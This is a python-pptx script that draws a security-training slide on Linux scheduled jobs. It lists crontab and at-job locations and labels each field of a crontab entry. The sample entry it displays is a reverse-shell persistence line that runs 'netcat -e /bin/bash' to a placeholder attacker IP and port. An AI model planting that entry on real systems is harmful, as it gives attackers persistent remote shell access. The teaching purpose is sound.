
from copy import deepcopy

from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.dml import MSO_PATTERN
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR as Anchor, MSO_AUTO_SIZE as Fit, PP_ALIGN as Align
from pptx.oxml.ns import qn
from pptx.util import Pt

WHITE = RGBColor(0xFF, 0xFF, 0xFF)
BLACK = RGBColor(0, 0, 0)
YELLOW = RGBColor(0xFF, 0xFF, 0)
GREEN = RGBColor(0, 0xFF, 0)
TEAL = RGBColor(0, 0xDF, 0xCA)
MINT = RGBColor(0xCC, 0xFF, 0xCC)
NAVY = RGBColor(0x24, 0x24, 0xB6)
BLUE = RGBColor(0x33, 0x33, 0xFF)
SILVER = RGBColor(0xAE, 0xAE, 0xAE)
GRAY = RGBColor(0x40, 0x40, 0x40)
NARROW = "Arial Narrow"

WIDE, HIGH = 960, 540
MARK = "UNCLASSIFIED"
TITLE = "Scheduled Jobs"
PAGE = "27"

# (level, [(text, style)]): "i" is a green italic path, "s" the same raised
BODY = [
    (0, [("crontab", "")]),
    (1, [("System-wide jobs installed by modify /etc/crontab file", "")]),
    (1, [("Locations to Less ", ""), ("/etc/crontab", "i"), (", ", ""),
         ("ls /etc/cron.", "i"), ("∗ ", "s"),
         ("(daily, hourly, weekly, monthly)", "")]),
    (0, [("at jobs", "")]),
    (1, [("Executes commands at a specific time", "")]),
    (1, [("Not for recurring tasks", "")]),
    (1, [("/etc/var/at/jobs", "i"), (", ", ""), ("/var/spool/cron/atjobs", "i")]),
]
CODE = [
    "36 2   *   *  7 lion1  netcat –e  /bin/bash <attacker ip> <port>",
    "*    *   *   *  *  root   /scripts/script.sh",
]
CODE_BOX = (480.2, 242.6, 470.2, 52.6)

# lines, box left, top, width, then arrow column x, start y, row y, tip x
FIELDS = [
    (["Minute (0 - 59)"], 578.9, 476.6, 118, 488.2, 295.2, 486.7, 577.4),
    (["Hour (0 - 23)"], 629.3, 445, 118, 511.9, 294, 457.9, 628.6),
    (["Day of month (1 - 31)"], 670.3, 413.3, 150, 534.2, 295.2, 425.5, 669.6),
    (["Month (1 - 12)"], 764.6, 381.6, 118, 555.1, 295.2, 398.9, 763.2),
    (["Day of week (0 - 7)", "\t0 / 7 = Sunday"],
     762.5, 329, 175.7, 570.2, 295.2, 352.1, 760.3),
    (["Command to execute"], 761.8, 297.4, 175.7, 651.6, 297.4, 310.3, 759.6),
]


def place(shape, box):
    shape.left, shape.top, shape.width, shape.height = map(Pt, box)


def style(font, size, color, name=NARROW, bold=True):
    font.size, font.name, font.bold = Pt(size), name, bold
    font.color.rgb = color


def write(shape, lines, size, color, name=NARROW, bold=True,
          align=Align.LEFT, anchor=Anchor.TOP):
    frame = shape.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = anchor
    frame.text = "\n".join(lines)
    for para in frame.paragraphs:
        para.alignment = align
        for run in para.runs:
            style(run.font, size, color, name, bold)
    return frame


def blend(fill, stops, angle):
    """Fill with a linear gradient of (percent, colour) stops."""
    fill.gradient()
    fill.gradient_angle = angle
    first = fill.gradient_stops[0]._gs
    for _ in stops[2:]:
        first.addnext(deepcopy(first))
    for stop, (pos, color) in zip(fill.gradient_stops, stops):
        stop.position = pos / 100
        stop.color.rgb = color


def add_box(kind, box, edge=None, weight=1):
    shape = slide.shapes.add_shape(kind, *map(Pt, box))
    shape.shadow.inherit = False
    if edge is None:
        shape.line.fill.background()
    else:
        shape.line.color.rgb = edge
        shape.line.width = Pt(weight)
    shape.fill.background()
    return shape


def add_line(x1, y1, x2, y2, arrow=False):
    line = slide.shapes.add_connector(MSO_CONNECTOR.STRAIGHT, *map(Pt, (x1, y1, x2, y2)))
    line.line.color.rgb = WHITE
    line.line.width = Pt(5)
    props = line._element.spPr
    if arrow:
        SubElement(props.find(qn("a:ln")), qn("a:tailEnd"), type="triangle")
    SubElement(props, qn("a:effectLst"))


def add_dash(para, level):
    """Give the paragraph a hanging yellow dash as its bullet."""
    props = para._p.get_or_add_pPr()
    props.set("marL", str(Pt(25.5 * (level + 1))))
    props.set("indent", str(-Pt(25.5)))
    tint = SubElement(props, qn("a:buClr"))
    SubElement(tint, qn("a:srgbClr"), val=str(YELLOW))
    SubElement(props, qn("a:buSzPct"), val="125000")
    SubElement(props, qn("a:buFont"), typeface=NARROW)
    SubElement(props, qn("a:buChar"), char="–")


deck = Presentation()
deck.slide_width, deck.slide_height = Pt(WIDE), Pt(HIGH)
slide = deck.slides.add_slide(deck.slide_layouts[1])
blend(slide.background.fill, [(0, NAVY), (50, BLUE), (100, NAVY)], 270)

# Frame of the slide
rule = add_box(MSO_SHAPE.RECTANGLE, (167.8, 99.4, 776.2, 7.2))
blend(rule.fill, [(0, SILVER), (98, GRAY)], 270)

ribbon = add_box(MSO_SHAPE.CURVED_UP_RIBBON, (23.8, 87.8, 120.2, 30.2), BLACK)
ribbon.rotation = 180
for i, value in enumerate((0.5, 0.56, 0.25)):
    ribbon.adjustments[i] = value
ribbon.fill.patterned()
ribbon.fill.pattern = MSO_PATTERN.LARGE_CHECKER_BOARD
ribbon.fill.fore_color.rgb = YELLOW
ribbon.fill.back_color.rgb = BLACK

for top in (0, 511.2):
    mark = slide.shapes.add_textbox(0, Pt(top), Pt(WIDE), Pt(28.8))
    write(mark, [MARK], 18, GREEN, "Arial", align=Align.CENTER, anchor=Anchor.MIDDLE)

page = slide.shapes.add_textbox(*map(Pt, (907.2, 514.8, 32.4, 24.5)))
frame = write(page, [PAGE], 18, TEAL, align=Align.RIGHT, anchor=Anchor.MIDDLE)
frame.word_wrap = False
frame.paragraphs[0].line_spacing = 0.8

# Title and list
title = slide.shapes.title
place(title, (167.8, 15.8, 622.8, 90))
frame = write(title, [TITLE], 36, YELLOW, "Arial", align=Align.CENTER, anchor=Anchor.MIDDLE)
frame.auto_size = Fit.NONE
frame.paragraphs[0].line_spacing = Pt(37)

body = slide.placeholders[1]
place(body, (44.6, 125.3, 879.8, 377.3))
frame = body.text_frame
frame.auto_size = Fit.NONE
for i, (level, parts) in enumerate(BODY):
    para = frame.add_paragraph() if i else frame.paragraphs[0]
    para.level = level
    para.space_before = para.space_after = Pt(3)
    add_dash(para, level)
    for text, look in parts:
        run = para.add_run()
        run.text = text
        style(run.font, 24 if level else 28, GREEN if look else WHITE)
        run.font.italic = bool(look)
        if look == "s":
            run._r.get_or_add_rPr().set("baseline", "30000")

# Crontab entry and the meaning of its fields
code = add_box(MSO_SHAPE.RECTANGLE, CODE_BOX, WHITE)
code.fill.solid()
code.fill.fore_color.rgb = MINT
write(code, CODE, 20, BLACK, bold=False)

for lines, left, top, width, col, start, row, tip in FIELDS:
    height = 26.6 + 19.5 * (len(lines) - 1)
    label = add_box(MSO_SHAPE.RECTANGLE, (left, top, width, height), WHITE, 0.75)
    write(label, lines, 16, WHITE)
    add_line(col, start, col, row + 2)
    add_line(col - 2, row, tip, row, arrow=True)

deck.save("out.pptx")
